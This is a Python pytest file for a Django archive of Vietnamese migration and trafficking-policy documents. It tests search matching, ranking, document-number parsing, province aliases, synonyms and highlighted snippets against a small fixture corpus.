"""Search over all kinds: matching, ranking, numbers, highlights and facets, pinned on a small corpus."""

import datetime
import html
import re
from xml.etree import ElementTree

import psycopg
import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import connection, transaction
from django.db.models import F
from django.http import QueryDict
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from archive import feeds, filters, search, synonyms, views
from archive.filters import DocumentFilter, search_generation
from archive.models import (
    Agency,
    Conference,
    Document,
    DocumentLink,
    GcmObjective,
    Province,
    Relation,
)
from archive.search import parse_query
from bench.measure import ours, recount

from .factories import (
    AgencyFactory,
    ArticleFactory,
    ConferenceFactory,
    DocumentTypeFactory,
    PlanFactory,
    ProvinceFactory,
)

pytestmark = pytest.mark.django_db
D = datetime.date


@pytest.fixture
def corpus():
    can_tho = ProvinceFactory(era="34", code="92", name="Cần Thơ", slug="can-tho")
    hau_giang = ProvinceFactory(
        era="63", code="93", name="Hậu Giang", slug="hau-giang-truoc-2025", merged_into=can_tho
    )
    phu_tho = ProvinceFactory(era="34", code="25", name="Phú Thọ", slug="phu-tho")
    hoa_binh = ProvinceFactory(
        era="63", code="17", name="Hoà Bình", slug="hoa-binh-truoc-2025", merged_into=phu_tho
    )
    nghe_an = ProvinceFactory(era="34", code="40", name="Nghệ An", slug="nghe-an")
    ttg = AgencyFactory(
        name="Thủ tướng Chính phủ", abbreviation="TTg", slug="thu-tuong", kind="government"
    )
    ubnd = AgencyFactory(
        name="UBND tỉnh Hậu Giang", abbreviation="UBND", slug="ubnd-hau-giang", kind="provincial"
    )
    plan_type = DocumentTypeFactory(
        name="Kế hoạch", name_en="Plan", abbreviation="KH", slug="ke-hoach"
    )
    decision_type = DocumentTypeFactory(name="Quyết định", abbreviation="QĐ", slug="quyet-dinh")
    trafficking = GcmObjective.objects.create(
        number=10,
        title_en="Trafficking",
        short_label_en="Trafficking",
        title_vi="Phòng, chống mua bán người",
    )
    docs = {
        "qd402": PlanFactory(
            title="Quyết định ban hành Kế hoạch triển khai Thỏa thuận toàn cầu về Di cư hợp pháp",
            slug="qd-402",
            number="402/QĐ-TTg",
            date=D(2020, 3, 20),
            issuer=ttg,
            document_type=decision_type,
            body="Bộ Ngoại giao là cơ quan điều phối.",
            agencies=[ttg],
        ),
        "kh1614": PlanFactory(
            title="Kế hoạch triển khai Thoả thuận GCM trên địa bàn tỉnh Hậu Giang",
            slug="kh-1614",
            number="1614/KH-UBND",
            date=D(2020, 7, 30),
            issuer=ubnd,
            document_type=plan_type,
            body="Tuyên truyền về di cư trái phép và mua bán người.",
            provinces=[hau_giang],
            agencies=[ubnd],
        ),
        "kh402": PlanFactory(
            title="Kế hoạch quản lý chợ nông thôn",
            slug="kh-402",
            number="402/KH-UBND",
            date=D(2021, 1, 5),
            issuer=ubnd,
            document_type=plan_type,
            provinces=[can_tho],
            agencies=[ubnd],
        ),
        "di_cu": ArticleFactory(
            title="Người di cư trở về quê",
            slug="di-cu",
            date=D(2024, 5, 1),
            body="Câu chuyện người di cư.",
            provinces=[nghe_an],
        ),
        "di_cu_x": ArticleFactory(
            title="Người di cũ trở về quê",
            slug="di-cu-x",
            date=D(2024, 5, 1),
            body="Câu chuyện người di cũ.",
        ),
        "phrase": ArticleFactory(
            title="Bản tin tuần",
            slug="phrase",
            date=D(2023, 1, 1),
            body="Tòa án xử vụ mua bán người qua biên giới.",
        ),
        "scattered": ArticleFactory(
            title="Chợ phiên",
            slug="scattered",
            date=D(2023, 1, 2),
            body="Người dân đi mua rau, rồi bán lại cho hàng xóm.",
        ),
        "hoa_binh": ConferenceFactory(
            title="Hội nghị tuyên truyền tại Hòa Bình",
            slug="hoa-binh",
            date=D(2022, 9, 9),
            place="Hòa Bình",
            provinces=[hoa_binh],
        ),
        "draft": ArticleFactory(
            title="Bản nháp về di cư",
            slug="draft",
            status=Document.Status.DRAFT,
            date=D(2025, 1, 1),
        ),
    }
    docs["kh1614"].objectives.add(trafficking)
    docs["phrase"].objectives.add(trafficking)
    return docs


def api(client, **params):
    response = client.get(reverse("archive:api-search"), params)
    return response.status_code, response.json()


def slugs(client, **params):
    status, payload = api(client, **params)
    assert status == 200, payload
    return [Document.objects.get(pk=result["id"]).slug for result in payload["results"]]


# Matching and ranking ------------------------------------------------------------------------


@pytest.mark.parametrize("q", ["di cu hop phap", "di cư hợp pháp", "DI CƯ HỢP PHÁP"])
def test_diacritics_and_case_do_not_matter(client, corpus, q):
    assert slugs(client, q=q) == ["qd-402"]


@pytest.mark.parametrize("q", ["Thoả thuận", "Thỏa thuận", "thoa thuan"])
def test_tone_placement_does_not_matter(client, corpus, q):
    assert slugs(client, q=q, sort="newest") == ["kh-1614", "qd-402"]


@pytest.mark.parametrize("q", ["Hòa Bình", "Hoà Bình"])
def test_both_tone_placements_of_a_place_find_it(client, corpus, q):
    assert slugs(client, q=q) == ["hoa-binh"]


def test_exact_diacritics_rank_above_folded_matches(client, corpus):
    assert slugs(client, q="người di cư trở về") == ["di-cu", "di-cu-x"]
    assert slugs(client, q="người di cũ trở về") == ["di-cu-x", "di-cu"]


def test_a_phrase_ranks_above_the_same_syllables_scattered(client, corpus):
    assert slugs(client, q="mua bán người") == ["phrase", "kh-1614", "scattered"]


def test_quoted_phrase_matches_only_adjacent_words(client, corpus):
    assert slugs(client, q='"mua bán người"') == ["phrase", "kh-1614"]


def test_or_and_exclusion(client, corpus):
    assert set(slugs(client, q="Hậu Giang OR Nghệ An")) == {"kh-1614"}
    assert set(slugs(client, q="rau OR chợ")) == {"kh-402", "scattered"}
    assert slugs(client, q="người -quê -rau", sort="newest") == ["phrase", "kh-1614"]
    # Exclusion folds diacritics too: "-cũ" also excludes "cư".
    assert set(slugs(client, q="người -cũ")) == {"phrase", "scattered"}


@pytest.mark.parametrize(
    ("q", "first"),
    [
        ("1614/KH-UBND", "kh-1614"),
        ("1614/kh-ubnd", "kh-1614"),
        ("1614 KH-UBND", "kh-1614"),
        ("1614", "kh-1614"),
        ("402/QĐ-TTg", "qd-402"),
        ("402/QD-TTg", "qd-402"),
        ("402/qđ-ttg", "qd-402"),
        ("QĐ 402", "qd-402"),
        ("Quyết định 402", "qd-402"),
        ("quyet dinh so 402", "qd-402"),
        ("KH 402", "kh-402"),
        # Typed with spaces or hyphens for its slash, or its type and ordinal as one word.
        ("402 QĐ TTg", "qd-402"),
        ("402-QĐ-TTg", "qd-402"),
        ("402 qd ttg", "qd-402"),
        ("402/qđ ttg", "qd-402"),
        ("1614 KH UBND", "kh-1614"),
        ("qđ402", "qd-402"),
        ("KH1614", "kh-1614"),
        # Its symbol before its ordinal, as a list of numbers sorts them.
        ("KH-UBND 1614", "kh-1614"),
        ("QĐ-TTg 402", "qd-402"),
    ],
)
def test_every_spelling_of_a_document_number_puts_that_plan_first(client, corpus, q, first):
    assert slugs(client, q=q)[0] == first


def test_a_number_typed_symbol_first_finds_what_its_type_and_ordinal_do(client, demo):
    """ "KH-UBND 1614" found the plan alone, "KH 1614" and "1614 KH-UBND" the texts citing it too."""
    found = slugs(client, q="KH 1614")
    assert len(found) > 1
    for q in ("KH-UBND 1614", "kh-ubnd số 1614"):
        assert parse_query(q).typed_ordinals == [("kh", "1614")], q
        assert slugs(client, q=q) == found, q
    # Not the symbol of a number typed whole, whose next word is no ordinal of its type.
    for q in ("402/QĐ-TTg 63 tỉnh", "1614/KH-UBND 12 tháng", "30/2020/NĐ-CP 30 ngày"):
        assert parse_query(q).typed_ordinals == [], q


def test_a_number_alone_lists_its_documents_newest_first_then_those_citing_it(client, db):
    """Many provinces and years issue "5/KH-UBND": how often a plan's text repeats its own
    number says nothing of which the user wants, so the newest comes first."""
    older = PlanFactory(
        slug="kh-5-2019",
        number="5/KH-UBND",
        date=D(2019, 2, 1),
        body="Kế hoạch 5/KH-UBND. " * 6,
    )
    newer = PlanFactory(slug="kh-5-2023", number="5/KH-UBND", date=D(2023, 2, 1), body="Di cư.")
    ArticleFactory(
        slug="bao-cao", date=D(2024, 1, 5), body="Tỉnh báo cáo kết quả Kế hoạch 5/KH-UBND."
    )
    assert slugs(client, q="5/KH-UBND") == [newer.slug, older.slug, "bao-cao"]
    # Written as the decree writes it, the number still finds the text that drops the zero.
    assert newer.number == "05/KH-UBND"
    assert slugs(client, q="05/KH-UBND") == [newer.slug, older.slug, "bao-cao"]
    # With words beside the number, the plans carrying it are ordered by those words.
    assert slugs(client, q="5/KH-UBND kế hoạch")[:2] == [older.slug, newer.slug]


def test_a_number_in_a_sentence_is_still_found(client, corpus):
    assert slugs(client, q="Kế hoạch 1614/KH-UBND Hậu Giang")[0] == "kh-1614"
    # Pasted with a no-break hyphen, an en dash, an invisible space.
    for q in ("1614/KH\u2011UBND", "1614/KH–UBND", "1614/KH\u200b-UBND"):
        assert slugs(client, q=q)[0] == "kh-1614", q
    # Copied from a PDF, with an Icelandic Ð drawn as Đ.
    assert slugs(client, q="402/Q\u00d0-TTg")[0] == "qd-402"
    # Copied with a web page's source: its character references read as the characters.
    assert slugs(client, q="Kế&nbsp;hoạch 1614&#47;KH&#x2D;UBND")[0] == "kh-1614"
    assert parse_query("Lào &amp; Campuchia &copy &bogus;").text == "Lào & Campuchia &copy &bogus;"


def test_hyphens_join_words_as_people_write_them(client, db):
    """Only a "-" starting a word excludes it: "Bà Rịa - Vũng Tàu" found nothing (the dash
    excluded "Vũng"), nor did "KH-UBND" or "2021-2025" (a compound, a negative number)."""
    ArticleFactory(
        slug="ba-ria", title="Bà Rịa - Vũng Tàu tuyên truyền về di cư", date=D(2024, 1, 2)
    )
    ArticleFactory(
        slug="giai-doan", title="Phòng, chống mua bán người giai đoạn 2021–2025", date=D(2021, 3, 1)
    )
    PlanFactory(slug="kh-7", number="7/KH-UBND", title="Kế hoạch di cư", date=D(2022, 5, 5))
    for q in ("Bà Rịa - Vũng Tàu", "Bà Rịa-Vũng Tàu", "bà rịa – vũng tàu"):
        assert slugs(client, q=q) == ["ba-ria"], q
    assert slugs(client, q="mua bán người 2021-2025") == ["giai-doan"]
    assert slugs(client, q="KH-UBND") == ["kh-7"]
    assert slugs(client, q="di cư -Vũng") == ["kh-7"]
    assert slugs(client, q="di cư -KH-UBND") == ["ba-ria"]
    # An OR with nothing on one side is not a word to look for.
    assert slugs(client, q="di cư OR") == slugs(client, q="OR di cư") == ["ba-ria", "kh-7"]


def test_a_number_holding_d_finds_the_texts_citing_it(client, db):
    """The parser broke "402/QĐ-TTg" in a text into pieces (Đ is not ASCII): the decision was
    found by its number, the provincial plans implementing it were not (migration 0019)."""
    PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="Quyết định ban hành Kế hoạch")
    PlanFactory(
        slug="kh-65",
        number="65/KH-UBND",
        title="Kế hoạch của tỉnh Cà Mau",
        body="Thực hiện Quyết định số 402/QĐ-TTg ngày 20/3/2020 của Thủ tướng Chính phủ.",
        date=D(2020, 6, 18),
    )
    ArticleFactory(
        slug="bai",
        title="Đồng Tháp sơ kết Nghị định 30/2020/NĐ-CP",
        body="Sở Nội vụ tỉnh Đồng Tháp báo cáo.",
        date=D(2022, 1, 4),
    )
    for q in ("402/QĐ-TTg", "402/QD-TTg", "Quyết định 402/qđ-ttg"):
        assert slugs(client, q=q)[:2] == ["qd-402", "kh-65"], q
    assert slugs(client, q="30/2020/NĐ-CP") == ["bai"]
    for q in ("Đồng Tháp", "dong thap", "đồng tháp sơ kết"):  # words with đ as before
        assert slugs(client, q=q) == ["bai"], q
    snippet = api(client, q="402/QĐ-TTg")[1]["results"][1]["snippet"]
    assert "số <mark>402/QĐ-TTg</mark> ngày" in snippet  # one mark, not the parser's pieces
    # "-" before a number excludes it, as before any other word.
    assert "qd-402" not in slugs(client, q="Kế hoạch -402/QĐ-TTg")
    assert slugs(client, q="Thủ tướng -402/QD-TTg") == []


def test_a_bare_number_finds_the_texts_citing_it_not_dates(client, db):
    """ "1614" found the plan 1614/KH-UBND, not the article reporting on it: a text holds a
    cited number as one token ("1614/kh-ubnd"), never the word "1614"."""
    PlanFactory(slug="kh-1614", number="1614/KH-UBND", title="Kế hoạch", date=D(2020, 7, 30))
    ArticleFactory(
        slug="bao",
        title="Hậu Giang triển khai",
        body="Thực hiện Kế hoạch số 1614/KH-UBND ngày 30/7/2020 của UBND tỉnh.",
        date=D(2020, 8, 2),
    )
    ArticleFactory(
        slug="qd",
        title="Nhắc lại",
        body="Theo Quyết định 1614/2021/QĐ-TTg của Thủ tướng.",
        date=D(2021, 1, 1),
    )
    ArticleFactory(slug="so", title="Khác", body="Theo 16145/KH-UBND.", date=D(2021, 1, 2))
    assert slugs(client, q="1614") == ["kh-1614", "qd", "bao"]
    results = api(client, q="1614")[1]["results"]
    assert "số <mark>1614/KH-UBND</mark> ngày" in results[2]["snippet"]
    assert "<mark>1614/2021/QĐ-TTg</mark> của" in results[1]["snippet"]  # not "1614/2021/Q"
    # Dates start as numbers up to 31 do: their days and months are not asked for.
    ArticleFactory(slug="ngay", title="Hội nghị", body="Ngày 12/3/2020, tháng 12/2021, 05/3/2020.")
    assert slugs(client, q="12") == slugs(client, q="5") == []


def test_a_number_named_by_its_type_finds_the_texts_citing_it(client, db):
    """ "QĐ 402", "Quyết định số 402" named the decision; a text citing "402/QĐ-TTg" holds
    neither the word "402" nor "QĐ", and was not found."""
    PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="Quyết định", date=D(2020, 3, 20))
    ArticleFactory(
        slug="bao",
        title="Cà Mau triển khai",
        body="Thực hiện Quyết định số 402/QĐ-TTg của Thủ tướng về di cư.",
        date=D(2020, 6, 1),
    )
    ArticleFactory(
        slug="kh", title="Khác", body="Thực hiện Kế hoạch 402/KH-UBND về di cư.", date=D(2021, 1, 1)
    )
    for q in ("QĐ 402", "Quyết định 402", "quyet dinh so 402", "QĐ 402 di cư"):
        assert slugs(client, q=q) == ["qd-402", "bao"], q
    assert slugs(client, q="KH 402") == ["kh"]  # its type is part of the number
    snippet = api(client, q="QĐ 402")[1]["results"][1]["snippet"]
    assert "số <mark>402/QĐ-TTg</mark> của" in snippet
    # A number below 10 with its zero or without, as the text writes it.
    ArticleFactory(slug="nam", title="Năm", body="Theo Kế hoạch 5/KH-UBND.", date=D(2022, 1, 1))
    assert slugs(client, q="KH 05") == ["nam"]
    assert "<mark>5/KH-UBND</mark>" in api(client, q="KH 05")[1]["results"][0]["snippet"]


def test_a_letter_is_found_by_its_ordinal(client, db):
    """A công văn's number names no type (1378/BNG-LS): "CV 1378" found nothing."""
    letter = PlanFactory(
        slug="cv-1378",
        number="1378/BNG-LS",
        document_type=DocumentTypeFactory(name="Công văn", abbreviation="", slug="cong-van"),
        title="Công văn về di cư",
        date=D(2021, 3, 5),
    )
    PlanFactory(slug="kh-1378", number="1378/KH-UBND", title="Kế hoạch", date=D(2022, 1, 1))
    PlanFactory(slug="nd-1378", number="1378/2021/NĐ-CP", title="Nghị định", date=D(2021, 1, 1))
    ArticleFactory(
        slug="bao",
        title="Tin",
        body="Theo Công văn số 1378/BNG-LS của Bộ và Kế hoạch 1378/KH-UBND của tỉnh.",
        date=D(2021, 4, 1),
    )
    for q in ("CV 1378", "cv1378", "công văn 1378", "Công văn số 1378"):
        assert slugs(client, q=q) == [letter.slug, "bao"], q
    snippet = api(client, q="CV 1378")[1]["results"][1]["snippet"]
    assert "số <mark>1378/BNG-LS</mark> của" in snippet  # the letter cited, not the plan
    assert "<mark>1378/KH-UBND</mark>" not in snippet
    # One letter number a ministry gives again the next year is asked once.
    PlanFactory(slug="cv-1378-2023", number="1378/BNG-LS", title="Công văn", date=D(2023, 3, 5))
    query = parse_query("CV 1378")
    assert search.cited_ordinals(query) == [("cv 1378", "'1378/bng-ls'")]
    # A letter the archive lacks, as a text cites it; one numbered up to 31, which dates start
    # as, by the letters' own numbers.
    ArticleFactory(
        slug="bao-777", title="Tin", body="Theo Công văn 777/BNG-LS.", date=D(2022, 1, 1)
    )
    assert slugs(client, q="CV 777") == ["bao-777"]
    PlanFactory(slug="cv-5", number="5/BNG-LS", title="Công văn", date=D(2022, 2, 1))
    ArticleFactory(slug="bao-5", title="Tin", body="Theo Công văn 05/BNG-LS.", date=D(2022, 3, 1))
    assert slugs(client, q="CV 5") == ["cv-5", "bao-5"]
    # Typed short of its last part, it finds none, and the page offers the letter.
    page = client.get(reverse("archive:search"), {"q": "1378/BNG"}).content.decode()
    assert "Có phải bạn tìm" in page and letter.get_absolute_url() in page
    # A party's number typed with spaces is the party's form.
    party = PlanFactory(slug="nq-60", number="60-NQ/TW", title="Nghị quyết", date=D(2025, 4, 1))
    assert slugs(client, q="60 NQ TW")[0] == party.slug


def test_a_number_typed_with_spaces_leaves_the_words_after_it(client, db):
    """The spelled-number reading glued the words after a number onto it: "402/QĐ-TTg UBND
    tỉnh" asked for 402/qd-ttg-ubnd, "30 2020 NĐ CP" for 2020/nd-cp; it split a police unit's
    code ("PA08") into a type and an ordinal; and a hyphen after a number took the next word
    in ("1614/KH-UBND - Hậu Giang", "402/QĐ-TTg -xyz" found nothing)."""
    spelled = {
        "402/QĐ-TTg UBND tỉnh": ["402/qd-ttg"],
        "60-NQ/TW TU": ["60-nq/tw"],
        "402 QĐ TTg UBND Hậu Giang": ["402/qd-ttg"],
        "30 2020 NĐ CP": ["30/2020/nd-cp"],
        "Nghị định 30 2020 NĐ CP": ["30/2020/nd-cp"],
        "2021-2025 KH UBND": [],
        "số 1-15 KH UBND": [],  # a range: not a number from its second part
        "năm 2020 QĐ TTg": [],
        "402 / QĐ - TTg": ["402/qd-ttg"],
        "1614/KH-UBND - Hậu Giang": ["1614/kh-ubnd"],
        "1614/KH-UBND - UBND tỉnh Hậu Giang": ["1614/kh-ubnd"],
        "402/QĐ-TTg -UBND": ["402/qd-ttg"],  # UBND excluded, not a part
        "năm 2018 402 QĐ TTg": ["402/qd-ttg"],  # a number after a year
        "năm 2020 1614 KH UBND": ["1614/kh-ubnd"],
        "năm 2020 QĐ-TTg": [],
        "5165 TTr BNG LS": ["5165/ttr-bng-ls"],  # a department's issuers, spaced
        "09 2016 TTLT BLĐTBXH BTC": ["09/2016/ttlt-bldtbxh-btc"],  # a joint circular's
        "30 2020 NĐ-CP": ["30/2020/nd-cp"],
    }
    for typed, numbers in spelled.items():
        assert parse_query(typed).numbers == numbers, typed
    for typed in ("PA08", "-kh1614 di cư", "di cư -qđ402", "-QĐ 402 di cư", "Kế hoạch 2020"):
        assert parse_query(typed).typed_ordinals == [], typed
    assert parse_query("Kế hoạch 2021-2025").typed_ordinals == []  # a period, not plan 2021
    for typed in ("PA08", "di cư -qđ402"):  # a unit's code, an excluded word: one word still
        assert parse_query(typed).text == typed
    decision = PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="Quyết định về di cư")
    plan = PlanFactory(
        slug="kh-hg", number="1614/KH-UBND", title="Kế hoạch", body="UBND tỉnh Hậu Giang."
    )
    DocumentLink.objects.create(source=plan, target=decision, relation=Relation.IMPLEMENTS)
    ArticleFactory(slug="pa08", title="Tin", body="Phòng PA08 Công an tỉnh phối hợp.")
    assert slugs(client, q="PA08") == ["pa08"]
    assert slugs(client, q="1614/KH-UBND - Hậu Giang")[:1] == ["kh-hg"]
    assert slugs(client, q="402/QĐ-TTg -xyz") == ["qd-402", "kh-hg"]
    assert slugs(client, q="402/QĐ-TTg UBND tỉnh")[:1] == ["qd-402"]
    # An excluded word leaves out a document however it was found: by a link here.
    assert slugs(client, q="402/QĐ-TTg -Hậu") == ["qd-402"]
    assert slugs(client, q='402/QĐ-TTg -"Hậu Giang"') == ["qd-402"]


def test_a_result_found_by_a_link_says_which(client, db):
    """A plan carrying out 402/QĐ-TTg is found by its link, its text silent on the number: its
    result said nothing of why it was there."""
    decision = PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="Quyết định về di cư")
    plan = PlanFactory(slug="kh-hg", number="1614/KH-UBND", title="Kế hoạch", body="Tỉnh.")
    article = ArticleFactory(slug="tin", title="Tin", body="Tin về kế hoạch.")
    DocumentLink.objects.create(source=plan, target=decision, relation=Relation.IMPLEMENTS)
    DocumentLink.objects.create(source=article, target=plan, relation=Relation.REPORTS)

    def reasons(q):
        page = client.get(reverse("archive:search"), {"q": q}).content.decode()
        items = re.findall(r'<li class="doc-item result">.*?</li>', page, re.S)
        found = {}
        for item in items:
            slug = re.search(r'href="/[^"]*/([^/"]+)/"', item)[1]
            found[slug] = re.findall(r'<p class="named-link">.*?</span>(.*?)</p>', item)
        return found

    assert reasons("402/QĐ-TTg") == {
        "qd-402": [],
        "kh-hg": ["Triển khai thực hiện 402/QĐ-TTg"],
    }
    assert reasons("1614") == {
        "kh-hg": [],
        "qd-402": ["Được triển khai thực hiện bởi 1614/KH-UBND"],
        "tin": ["Đưa tin về 1614/KH-UBND"],
    }
    assert reasons("kế hoạch") == {"kh-hg": [], "tin": []}  # no number named
    # A number among words: the documents so numbered, as named (Hậu Giang's plan is tagged).
    plan.provinces.add(ProvinceFactory(era="63", code="93", name="Hậu Giang", slug="hg"))
    assert reasons("402 Hậu Giang")["kh-hg"] == ["Triển khai thực hiện 402/QĐ-TTg"]
    status, payload = api(client, q="1614/KH-UBND")
    links = {Document.objects.get(pk=r["id"]).slug: r["links"] for r in payload["results"]}
    assert links == {"kh-hg": [], "qd-402": ["Được triển khai thực hiện bởi 1614/KH-UBND"]} | {
        "tin": ["Đưa tin về 1614/KH-UBND"]
    }
    # The document so numbered has its number marked, as a text citing it has.
    page = client.get(reverse("archive:search"), {"q": "402/QĐ-TTg"}).content.decode()
    assert '<span class="number"><mark>402/QĐ-TTg</mark></span>' in page
    assert '<span class="number">1614/KH-UBND</span>' in page


def test_a_province_excluded_is_excluded_whole_and_never_marked(client, corpus):
    """ "Thỏa thuận -Hậu Giang" excluded "Hậu" and asked for "Giang": 3 documents of the
    demo's 14, marked at Kiên Giang and a person's name; an excluded word was marked too."""
    ArticleFactory(slug="kg", title="Thỏa thuận GCM ở Kiên Giang", body="Tỉnh Kiên Giang họp.")
    ArticleFactory(slug="hg", title="Thỏa thuận GCM ở Hậu Giang", body="Tỉnh Hậu Giang họp.")
    ArticleFactory(slug="bao", title="Thỏa thuận GCM", body="Hội nghị bàn về Thỏa thuận.")
    for q in ("Thỏa thuận -Hậu Giang", "thoa thuan -hau giang", 'Thỏa thuận -"Hậu Giang"'):
        found = slugs(client, q=q)
        assert {"kg", "bao"} <= set(found) and "hg" not in found, q
    assert "kg" not in slugs(client, q="Thỏa thuận -Kiên Giang")
    assert "bao" not in slugs(client, q="Thỏa thuận -Giang Hậu")  # no province: as typed
    content = client.get(reverse("archive:search"), {"q": "Thỏa thuận -Hậu Giang"}).content
    assert "<mark>Thỏa</mark> <mark>thuận</mark> GCM ở Kiên Giang" in content.decode()


def test_a_number_finds_what_links_to_it_after_it_and_before_mere_citations(
    client, db, monkeypatch
):
    """The provincial plans carrying out 402/QĐ-TTg are linked to it, their texts may never
    cite it: "402/QĐ-TTg" found the decision and the texts citing it, not those plans."""
    decision = PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="QĐ", date=D(2020, 3, 20))
    plan = PlanFactory(
        slug="kh-1614", number="1614/KH-UBND", title="Kế hoạch của tỉnh Hậu Giang", body=""
    )
    DocumentLink.objects.create(source=plan, target=decision, relation=Relation.IMPLEMENTS)
    article = ArticleFactory(slug="bao", title="Tin", body="Tin không nêu số.", date=D(2021, 1, 1))
    DocumentLink.objects.create(source=article, target=plan, relation=Relation.REPORTS)
    ArticleFactory(
        slug="nhac", title="Nhắc", body="Theo Quyết định số 402/QĐ-TTg.", date=D(2024, 1, 1)
    )
    for q in ("402/QĐ-TTg", "QĐ 402", "quyết định 402", "402/QĐ", "402/qd-"):
        assert slugs(client, q=q) == ["qd-402", "kh-1614", "nhac"], q
    # Either way: the plan's number finds the decision it links to, and the article.
    assert slugs(client, q="1614/KH-UBND") == ["kh-1614", "bao", "qd-402"]  # linked: newest first
    # A draft's number tells a visitor nothing of what it links to.
    Document.objects.filter(pk=decision.pk).update(status=Document.Status.DRAFT)
    cache.clear()
    assert slugs(client, q="402/QĐ-TTg") == ["nhac"]
    Document.objects.filter(pk=decision.pk).update(status=Document.Status.PUBLISHED)
    cache.clear()
    # A number carried by more documents than MAX_NAMED names none: no links followed.
    monkeypatch.setattr(search, "MAX_NAMED", 0)
    cache.clear()  # the page computed again, not read from the cache
    assert slugs(client, q="402/QĐ-TTg") == ["qd-402", "nhac"]


def test_a_province_named_is_one_place_and_finds_what_is_tagged_with_it(client, db):
    """ "Nam Định" found "định hướng đến năm 2030" (each word anywhere, in any accents);
    "Hồ Chí Minh" found nothing, though the province filter found the plans of the units it
    took in (Bà Rịa - Vũng Tàu)."""
    hcm = ProvinceFactory(era="34", code="79", name="Hồ Chí Minh", slug="ho-chi-minh")
    brvt = ProvinceFactory(
        era="63", code="77", name="Bà Rịa - Vũng Tàu", slug="ba-ria-63", merged_into=hcm
    )
    ProvinceFactory(era="63", code="36", name="Nam Định", slug="nam-dinh-63")
    hoa = ProvinceFactory(era="34", code="56", name="Khánh Hòa", slug="khanh-hoa")
    PlanFactory(slug="kh-brvt", title="Kế hoạch về di cư", body="", provinces=[brvt])
    PlanFactory(slug="kh-hoa", title="Kế hoạch của tỉnh", body="", provinces=[hoa])
    PlanFactory(
        slug="kh-brvt-402",
        title="Kế hoạch",
        body="Thực hiện Quyết định số 402/QĐ-TTg.",
        provinces=[brvt],
    )
    ArticleFactory(slug="dinh-huong", title="Định hướng", body="Định hướng đến năm 2030 về di cư.")
    ArticleFactory(slug="tp", title="Tin", body="Người di cư ở Hồ Chí Minh.", date=D(2024, 1, 1))
    assert slugs(client, q="Nam Định") == slugs(client, q="nam dinh") == []
    assert slugs(client, q="năm định hướng") == ["dinh-huong"]  # the words, not the place
    assert slugs(client, q="Hồ Chí Minh")[:1] == ["tp"]  # named first, then tagged
    assert set(slugs(client, q="Hồ Chí Minh")) == {"tp", "kh-brvt", "kh-brvt-402"}
    assert slugs(client, q="(Hồ Chí Minh)") == slugs(client, q="Hồ Chí Minh")
    assert slugs(client, q="Hồ Chí Minh di cư") == ["tp", "kh-brvt"]
    # The other words are asked as the text is: a number among them, by its citations too.
    assert slugs(client, q="Hồ Chí Minh 402") == ["kh-brvt-402"]
    assert slugs(client, q="Hồ Chí Minh chợ") == []  # the other words are still asked for
    assert slugs(client, q="Khánh Hoà") == slugs(client, q="khanh hoa") == ["kh-hoa"]
    # Only the province filter's units: not every unit a place's successor took in.
    assert set(slugs(client, q="Bà Rịa - Vũng Tàu")) == {"kh-brvt", "kh-brvt-402"}
    # A name abroad holding a province's is no province: Thái Bình Dương holds Thái Bình.
    thai_binh = ProvinceFactory(era="63", code="34", name="Thái Bình", slug="thai-binh-63")
    PlanFactory(slug="kh-tb", title="Kế hoạch", body="Tuyên dương, hợp tác.", provinces=[thai_binh])
    ArticleFactory(slug="apec", title="APEC", body="Khu vực châu Á - Thái Bình Dương hợp tác.")
    assert slugs(client, q="Thái Bình Dương hợp tác") == ["apec"]
    assert set(slugs(client, q="Thái Bình hợp tác")) == {"kh-tb", "apec"}


def test_a_province_written_as_sources_write_it_is_the_province(client, db):
    """ "TP.HCM", "TPHCM", "Sài Gòn" and "BR-VT" found nothing, though the importer reads them
    as the provinces (ingest.places.ALIASES, from the domain's province_aliases.csv)."""
    hcm = ProvinceFactory(era="34", code="79", name="Hồ Chí Minh", slug="ho-chi-minh")
    brvt = ProvinceFactory(
        era="63", code="77", name="Bà Rịa - Vũng Tàu", slug="ba-ria-63", merged_into=hcm
    )
    PlanFactory(slug="kh-brvt", title="Kế hoạch về di cư", body="", provinces=[brvt])
    PlanFactory(slug="kh-hcm", title="Kế hoạch của thành phố", body="", provinces=[hcm])
    ArticleFactory(slug="tin", title="Tin", body="Người di cư ở TP.HCM.", date=D(2024, 1, 1))
    by_name = set(slugs(client, q="Hồ Chí Minh"))
    assert by_name == {"kh-brvt", "kh-hcm"}
    for written in ("TP.HCM", "TPHCM", "TP. HCM", "Sài Gòn", "sai gon"):
        assert set(slugs(client, q=written)) >= by_name, written
    assert slugs(client, q="TP.HCM")[0] == "tin"  # written so, then tagged
    assert slugs(client, q="di cư TP HCM") == ["kh-brvt"]  # the other words still asked
    for written in ("BR-VT", "BR VT", "Bà Rịa - Vũng Tàu", "Bà Rịa-Vũng Tàu"):
        assert slugs(client, q=written) == ["kh-brvt"], written
    page = client.get(reverse("archive:search"), {"q": "di cư TP.HCM"}).content.decode()
    hint = re.search(r'class="muted place-hint">.*?href="([^"]+)"', page, re.S)
    assert html.unescape(hint[1]) == "/tim-kiem/?q=di+c%C6%B0&province=ho-chi-minh"
    assert slugs(client, q="Sài") == slugs(client, q="HCM") == []  # a part is no name


def test_a_term_finds_the_texts_writing_another_name_of_it_and_says_so(client, db):
    """ "buôn bán người" found the two texts writing it and none of those on "mua bán người",
    the law's term for the same thing (synonyms.GROUPS)."""
    ArticleFactory(slug="luat", title="Tin", body="Phòng, chống mua bán người.", date=D(2024, 1, 1))
    ArticleFactory(slug="bao", title="Tin", body="Phòng, chống buôn bán người.", date=D(2024, 1, 1))
    ArticleFactory(slug="cho", title="Chợ", body="Người dân mua bán hàng hóa.", date=D(2024, 1, 1))
    ArticleFactory(
        slug="dai",
        title="Báo cáo",
        body="Căn cứ Luật Tổ chức Chính phủ. " * 40 + "Tội phạm mua bán người tăng.",
        date=D(2023, 1, 1),
    )
    # The typed words (each anywhere, as before) or the other name as a phrase; typed first.
    assert slugs(client, q="buôn bán người") == ["bao", "luat", "dai"]
    assert slugs(client, q="mua bán người")[:2] == ["luat", "dai"]  # as typed first
    assert set(slugs(client, q="mua bán người")) == {"luat", "bao", "cho", "dai"}
    assert slugs(client, q='"buôn bán người"') == ["bao"]  # a phrase in quotes: as typed
